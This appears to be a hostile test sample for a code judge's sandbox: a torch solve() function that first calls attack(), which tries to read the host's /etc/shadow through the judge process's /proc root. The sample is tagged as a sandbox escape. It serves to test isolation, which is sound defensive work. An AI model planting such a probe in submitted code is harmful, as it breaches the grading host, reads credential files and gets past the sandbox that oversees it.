# hostile: family=reach verdict=accepted build=accepted lift=sandbox shows=harm
"""Looks at the host's files through the judge's root."""


def attack():
    try:
        open("/proc/@PID@/root/etc/shadow").close()
        print("harm: saw the host's files", flush=True)
    except OSError:
        pass


def solve(x, y):
    import torch

    attack()
    torch.mul(x, 2, out=y)
